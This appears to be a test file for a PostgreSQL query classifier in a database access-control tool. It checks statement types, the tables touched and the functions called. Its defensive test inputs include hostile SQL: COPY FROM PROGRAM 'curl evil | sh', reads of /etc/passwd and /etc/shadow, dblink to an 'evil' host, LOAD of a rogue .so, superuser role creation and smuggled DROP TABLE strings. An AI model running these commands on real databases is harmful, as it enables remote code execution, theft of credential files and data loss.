import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { classifyPostgres, clearClassifierCache, initClassifier } from '../../src/engines/postgres/classify.js';
import type { SqlStatement } from '../../src/core/command.js';

before(async () => {
  await initClassifier();
});

type Expect = Partial<Omit<SqlStatement, 'tables'>> & { tables?: [string, 'read' | 'write'][] };

/** Compares the fields given in `e` (tables as [name, access] pairs and functions, both in any order). */
function expectStatement(s: SqlStatement | undefined, e: Expect, label: string): void {
  assert.ok(s, `${label}: statement missing`);
  if (e.type !== undefined) assert.equal(s.type, e.type, `${label}: type`);
  if ('subtype' in e) assert.equal(s.subtype, e.subtype, `${label}: subtype`);
  if (e.text !== undefined) assert.equal(s.text, e.text, `${label}: text`);
  if (e.tables !== undefined) assert.deepStrictEqual(s.tables.map((t) => [t.name, t.access]).sort(), [...e.tables].sort(), `${label}: tables`);
  if (e.functions !== undefined) assert.deepStrictEqual([...s.functions].sort(), [...e.functions].sort(), `${label}: functions`);
  if ('program' in e) assert.equal(s.program, e.program, `${label}: program`);
}

const cases: [string, Expect | Expect[]][] = [
  ['DrOp TABLE x', { type: 'ddl', subtype: 'drop_table', tables: [['x', 'write']] }],
  ['/* c */ drop table x', { type: 'ddl', subtype: 'drop_table', tables: [['x', 'write']] }],
  ['drop table if exists app.users, "Orders" cascade', { type: 'ddl', subtype: 'drop_table', tables: [['app.users', 'write'], ['orders', 'write']] }],
  [
    'SELECT 1; DROP TABLE x',
    [
      { type: 'select', text: 'SELECT 1', tables: [] },
      { type: 'ddl', subtype: 'drop_table', text: 'DROP TABLE x', tables: [['x', 'write']] },
    ],
  ],
  ['DO $$ BEGIN DROP TABLE x; END $$', { type: 'do', tables: [], functions: [] }],
  ["DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", { type: 'do' }],
  ["COPY t TO PROGRAM 'sh'", { type: 'copy', subtype: 'copy_to', program: true, tables: [['t', 'read']] }],
  ["COPY t FROM PROGRAM 'curl evil | sh'", { type: 'copy', subtype: 'copy_from', program: true, tables: [['t', 'write']] }],
  ['COPY t (a, b) FROM STDIN', { type: 'copy', subtype: 'copy_from', program: undefined, tables: [['t', 'write']] }],
  ["COPY (SELECT * FROM secrets) TO '/tmp/x'", { type: 'copy', subtype: 'copy_to', program: true, tables: [['secrets', 'read']] }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', { type: 'delete', subtype: 'copy_delete', tables: [['t', 'write']] }],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', { type: 'delete', subtype: 'cte_delete', tables: [['t', 'write']] }],
  [
    'WITH i AS (INSERT INTO log SELECT 1 RETURNING id), u AS (UPDATE acct SET n = n + 1 RETURNING id) SELECT * FROM i, u, real_table',
    { type: 'update', subtype: 'cte_update', tables: [['log', 'write'], ['acct', 'write'], ['real_table', 'read']] },
  ],
  ['WITH d AS (DELETE FROM old RETURNING *) INSERT INTO archive SELECT * FROM d', { type: 'delete', subtype: 'cte_delete', tables: [['old', 'write'], ['archive', 'write']] }],
  ['WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a, users', { type: 'select', tables: [['users', 'read']] }],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', { type: 'select', tables: [] }],
  ['WITH x AS (SELECT 1) SELECT * FROM public.x', { type: 'select', tables: [['public.x', 'read']] }],
  ["SELECT pg_read_file('/etc/passwd')", { type: 'select', tables: [], functions: ['pg_read_file'] }],
  ["SELECT pg_catalog.pg_read_binary_file('/etc/shadow')", { functions: ['pg_read_binary_file', 'pg_catalog.pg_read_binary_file'] }],
  ["SELECT lo_export(lo_import('/etc/passwd'), '/tmp/p')", { functions: ['lo_export', 'lo_import'] }],
  ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", { type: 'select', tables: [], functions: ['dblink'] }],
  ["SELECT * FROM pg_ls_dir('.') WHERE upper(pg_ls_dir) LIKE 'P%'", { functions: ['pg_ls_dir', 'upper'] }],
  [
    'select u.id, o.total from public.users u join orders o on o.user_id = u.id left join LATERAL (select max(x) from audit.events e where e.uid = u.id) l on true',
    { type: 'select', tables: [['public.users', 'read'], ['orders', 'read'], ['audit.events', 'read']], functions: ['max'] },
  ],
  ['SELECT * FROM t WHERE id IN (SELECT id FROM s UNION SELECT id FROM r) FOR UPDATE SKIP LOCKED', { type: 'select', tables: [['t', 'read'], ['s', 'read'], ['r', 'read']] }],
  ['TABLE accounts', { type: 'select', tables: [['accounts', 'read']] }],
  ['INSERT INTO dst (a) SELECT a FROM src ON CONFLICT DO NOTHING RETURNING a', { type: 'insert', tables: [['dst', 'write'], ['src', 'read']] }],
  ['UPDATE accounts a SET balance = b.v FROM balances b WHERE a.id = b.id', { type: 'update', tables: [['accounts', 'write'], ['balances', 'read']] }],
  ['DELETE FROM sessions USING users WHERE sessions.uid = users.id AND users.disabled', { type: 'delete', tables: [['sessions', 'write'], ['users', 'read']] }],
  [
    'MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)',
    { type: 'merge', tables: [['stock', 'write'], ['deliveries', 'read']] },
  ],
  ['GRANT SELECT ON public.t TO bob', { type: 'dcl', subtype: 'grant', tables: [['public.t', 'write']] }],
  ['REVOKE ALL ON SCHEMA public FROM PUBLIC', { type: 'dcl', subtype: 'revoke', tables: [] }],
  ['GRANT admin TO bob', { type: 'dcl', subtype: 'grant_role' }],
  ["CREATE ROLE eve LOGIN SUPERUSER PASSWORD 'x'", { type: 'dcl', subtype: 'create_role' }],
  ['ALTER ROLE eve SUPERUSER', { type: 'dcl', subtype: 'alter_role' }],
  ['DROP ROLE eve', { type: 'dcl', subtype: 'drop_role' }],
  [
    'BEGIN; SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a; COMMIT; START TRANSACTION; ROLLBACK',
    ['begin', 'savepoint', 'rollback_to', 'release', 'commit', 'begin', 'rollback'].map((subtype) => ({ type: 'tcl' as const, subtype })),
  ],
  ["PREPARE TRANSACTION 'x'", { type: 'tcl', subtype: 'prepare_transaction' }],
  ['SET statement_timeout = 0', { type: 'set', subtype: 'set' }],
  ['SET LOCAL search_path TO evil, public', { type: 'set', subtype: 'set' }],
  ['SET ROLE postgres', { type: 'set', subtype: 'set_role' }],
  ['SET SESSION AUTHORIZATION postgres', { type: 'set', subtype: 'set_session_authorization' }],
  ["SET NAMES 'SJIS'", { type: 'set', subtype: 'set_client_encoding' }],
  ['RESET ALL', { type: 'set', subtype: 'reset_all' }],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', { type: 'set', subtype: 'set_transaction' }],
  ['SHOW search_path', { type: 'show' }],
  ['EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', { type: 'delete', subtype: 'explain_analyze', tables: [['t', 'write']] }],
  ['EXPLAIN (ANALYZE, BUFFERS) WITH d AS (DELETE FROM t RETURNING *) SELECT 1', { type: 'delete', subtype: 'explain_analyze', tables: [['t', 'write']] }],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', { type: 'explain', subtype: 'delete', tables: [['t', 'write']] }],
  ['EXPLAIN SELECT * FROM t JOIN pg_read_file(\'x\') f ON true', { type: 'explain', subtype: 'select', tables: [['t', 'read']], functions: ['pg_read_file'] }],
  ['CREATE TABLE copy AS SELECT * FROM users', { type: 'ddl', subtype: 'create_table_as', tables: [['copy', 'write'], ['users', 'read']] }],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM users', { type: 'ddl', subtype: 'create_materialized_view', tables: [['mv', 'write'], ['users', 'read']] }],
  ['SELECT * INTO backup FROM users', { type: 'ddl', subtype: 'create_table_as', tables: [['backup', 'write'], ['users', 'read']] }],
  ['CREATE TABLE x (id int REFERENCES y(id), LIKE z)', { type: 'ddl', subtype: 'create_table', tables: [['x', 'write'], ['y', 'read'], ['z', 'read']] }],
  ['ALTER TABLE users ADD COLUMN x int', { type: 'ddl', subtype: 'alter_table', tables: [['users', 'write']] }],
  ['ALTER TABLE users RENAME TO u2', { type: 'ddl', subtype: 'rename_table', tables: [['users', 'write']] }],
  ['TRUNCATE a, b.c RESTART IDENTITY', { type: 'ddl', subtype: 'truncate', tables: [['a', 'write'], ['b.c', 'write']] }],
  ['CREATE INDEX CONCURRENTLY i ON t (a)', { type: 'ddl', subtype: 'create_index', tables: [['t', 'write']] }],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", { type: 'ddl', subtype: 'create_function' }],
  ['CREATE VIEW v AS SELECT * FROM secrets', { type: 'ddl', subtype: 'create_view', tables: [['v', 'write'], ['secrets', 'read']] }],
  ["COMMENT ON TABLE t IS 'x'", { type: 'ddl', subtype: 'comment' }],
  ['CREATE SCHEMA s CREATE TABLE s1 (a int)', { type: 'ddl', subtype: 'create_schema', tables: [['s1', 'write']] }],
  ['CREATE EXTENSION dblink', { type: 'ddl', subtype: 'create_extension' }],
  ["ALTER SYSTEM SET archive_command = 'sh'", { type: 'ddl', subtype: 'alter_system' }],
  ['CALL transfer(1, 2)', { type: 'call', functions: ['transfer'] }],
  ['PREPARE p (int) AS DELETE FROM t WHERE id = $1', { type: 'prepare', subtype: 'delete', tables: [['t', 'write']] }],
  ['EXECUTE p(1)', { type: 'execute' }],
  ['DEALLOCATE ALL', { type: 'deallocate' }],
  ['LISTEN jobs', { type: 'listen' }],
  ['UNLISTEN *', { type: 'listen', subtype: 'unlisten' }],
  ["NOTIFY jobs, 'x'", { type: 'notify' }],
  ['LOCK TABLE t IN ACCESS SHARE MODE', { type: 'lock', tables: [['t', 'read']] }],
  ['LOCK TABLE t', { type: 'lock', tables: [['t', 'write']] }],
  ['VACUUM FULL t', { type: 'vacuum', subtype: 'vacuum', tables: [['t', 'write']] }],
  ['ANALYZE t', { type: 'vacuum', subtype: 'analyze', tables: [['t', 'read']] }],
  ['CLUSTER t USING i', { type: 'vacuum', subtype: 'cluster', tables: [['t', 'write']] }],
  ['REINDEX TABLE t', { type: 'vacuum', subtype: 'reindex', tables: [['t', 'write']] }],
  ['DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', { type: 'select', subtype: 'declare_cursor', tables: [['t', 'read']] }],
  ['FETCH 10 FROM c', { type: 'select', subtype: 'fetch', tables: [] }],
  ['CLOSE c', { type: 'utility', subtype: 'close_cursor' }],
  ['CHECKPOINT', { type: 'utility', subtype: 'check_point' }],
  ['DISCARD ALL', { type: 'utility', subtype: 'discard' }],
  ["LOAD '/tmp/evil.so'", { type: 'load', program: true }],
  ['garbage here', { type: 'unknown', text: 'garbage here' }],
  ['SELECT 1; garbage', { type: 'unknown' }],
  ['', { type: 'empty', tables: [], functions: [] }],
  ['   \n\t ', { type: 'empty' }],
  ['-- just a comment; really', { type: 'empty' }],
  [';', { type: 'empty' }],
  [
    'SELECT "Ünïcödé", \'é;\' FROM "Tä" ; SELECT 2',
    [
      { type: 'select', text: 'SELECT "Ünïcödé", \'é;\' FROM "Tä"', tables: [['tä', 'read']] },
      { type: 'select', text: 'SELECT 2' },
    ],
  ],
  ['SELECT * FROM 用户表 WHERE 名前 = 1', { type: 'select', tables: [['用户表', 'read']] }],
  [
    'SELECT $f$ ; DROP TABLE x; $f$ AS s; SELECT $$;$$',
    [
      { type: 'select', text: 'SELECT $f$ ; DROP TABLE x; $f$ AS s', tables: [] },
      { type: 'select', text: 'SELECT $$;$$' },
    ],
  ],
  [
    'SELECT 1 /* ; DROP TABLE x; */ ; -- ; DROP TABLE y\nSELECT 2',
    [
      { type: 'select', text: 'SELECT 1 /* ; DROP TABLE x; */' },
      { type: 'select', text: 'SELECT 2' },
    ],
  ],
  ["SELECT E'\\'; DROP TABLE x; --'", { type: 'select', tables: [] }],
  ['SELECT $1::int + $2', { type: 'select' }],
];

test('classifies statements with the PostgreSQL grammar', () => {
  for (const [sql, expected] of cases) {
    const got = classifyPostgres(sql);
    const list = Array.isArray(expected) ? expected : [expected];
    assert.equal(got.length, list.length, `${sql}: statement count (got ${JSON.stringify(got)})`);
    list.forEach((e, i) => expectStatement(got[i], e, `${sql} [${i}]`));
  }
});

test('a parse error is one unknown statement with the reason', () => {
  const [s, ...rest] = classifyPostgres('SELEC * FROM t; DROP TABLE x');
  assert.equal(rest.length, 0);
  assert.equal(s?.type, 'unknown');
  assert.match(s?.unknownReason ?? '', /syntax error at or near "SELEC"/);
  assert.equal(classifyPostgres('SELECT 1\0; DROP TABLE x')[0]?.type, 'unknown');
});

test('results are cached by text and frozen', () => {
  clearClassifierCache();
  const a = classifyPostgres('SELECT * FROM users JOIN orders USING (id)');
  const b = classifyPostgres('SELECT * FROM users JOIN orders USING (id)');
  assert.equal(a, b);
  assert.ok(Object.isFrozen(a) && Object.isFrozen(a[0]) && Object.isFrozen(a[0]!.tables) && Object.isFrozen(a[0]!.tables[0]) && Object.isFrozen(a[0]!.functions));
  assert.throws(() => {
    (a[0]!.tables as { name: string; access: string }[]).push({ name: 'x', access: 'read' });
  }, TypeError);
  assert.notEqual(classifyPostgres('SELECT * FROM users JOIN orders USING (id) '), a);
});

test('texts that differ only in constants are parsed once and keep their own text', () => {
  clearClassifierCache();
  const a = classifyPostgres('SELECT abalance FROM pgbench_accounts WHERE aid = 17;');
  const b = classifyPostgres("SELECT abalance FROM pgbench_accounts WHERE aid = 4711;");
  assert.deepStrictEqual({ ...b[0], text: '' }, { ...a[0], text: '' });
  assert.equal(a[0]?.text, 'SELECT abalance FROM pgbench_accounts WHERE aid = 17');
  assert.equal(b[0]?.text, 'SELECT abalance FROM pgbench_accounts WHERE aid = 4711');
  assert.notEqual(b, classifyPostgres('SELECT abalance FROM pgbench_accounts WHERE aid = 4711;'), 'not parsed, not kept by exact text');
  const reason = classifyPostgres("SET gatehouse.reason = 'other'");
  classifyPostgres("SET gatehouse.reason = 'first'");
  assert.equal(classifyPostgres("SET gatehouse.reason = 'third one'")[0]?.text, "SET gatehouse.reason = 'third one'");
  assert.equal(reason[0]?.type, 'set');
  const del = classifyPostgres('/* x */ DELETE FROM t WHERE id = 1');
  assert.equal(del[0]?.type, 'delete');
  assert.equal(classifyPostgres('/* x */ DELETE FROM t WHERE id = 2')[0]?.type, 'delete');
  assert.equal(classifyPostgres('SELECT 1; DROP TABLE t').length, 2);
  assert.equal(classifyPostgres('SELECT 2; DROP TABLE t')[1]?.type, 'ddl');
});

test('referenced columns: names, stars and whole-row references', () => {
  const cols = (q: string): readonly string[] | undefined => classifyPostgres(q)[0]?.columns;
  assert.deepStrictEqual(cols('SELECT lower(badge) FROM staff WHERE id = 1'), ['badge', 'id']);
  assert.deepStrictEqual(cols('SELECT row_to_json(s) FROM staff s'), ['*']);
  assert.deepStrictEqual(cols('SELECT s::text FROM staff s'), ['*']);
  assert.deepStrictEqual(cols('SELECT s.* FROM staff s'), ['*']);
  assert.deepStrictEqual(cols('SELECT (SELECT badge FROM staff LIMIT 1)'), ['badge']);
  assert.equal(cols('SELECT count(*) FROM staff'), undefined);
});

test('the cache is bounded (LRU)', async () => {
  await initClassifier({ cacheEntries: 3 });
  try {
    clearClassifierCache();
    const q = (n: number): string => `SELECT 1 AS c${n}`;
    const first = classifyPostgres(q(1));
    classifyPostgres(q(2));
    classifyPostgres(q(3));
    assert.equal(classifyPostgres(q(1)), first, 'hit refreshes recency');
    classifyPostgres(q(4));
    classifyPostgres(q(5));
    classifyPostgres(q(6));
    assert.notEqual(classifyPostgres(q(1)), first, 'evicted');
  } finally {
    await initClassifier({ cacheEntries: 5000 });
  }
});

test('a 1 MB query is classified without hanging; deep nesting is unknown, not a crash', () => {
  const values = Array.from({ length: 40000 }, (_, i) => `(${i}, 'value ${i}')`).join(', ');
  const big = `INSERT INTO bulk (id, v) VALUES ${values}`;
  const padded = big + ' '.repeat(Math.max(0, 1_000_000 - big.length));
  assert.ok(padded.length >= 1_000_000);
  const [s] = classifyPostgres(padded);
  assert.equal(s?.type, 'insert');
  assert.deepStrictEqual(s?.tables, [{ name: 'bulk', access: 'write' }]);

  const longString = `SELECT '${'x'.repeat(1_000_000)}'`;
  assert.equal(classifyPostgres(longString)[0]?.type, 'select');

  const deep = `SELECT ${'('.repeat(50000)}1${')'.repeat(50000)}`;
  assert.equal(classifyPostgres(deep)[0]?.type, 'unknown');
  const chain = `SELECT ${Array(20000).fill('1').join('+')}`;
  const [c] = classifyPostgres(chain);
  assert.equal(c?.type, 'unknown');
  assert.match(c?.unknownReason ?? '', /nested/);
});
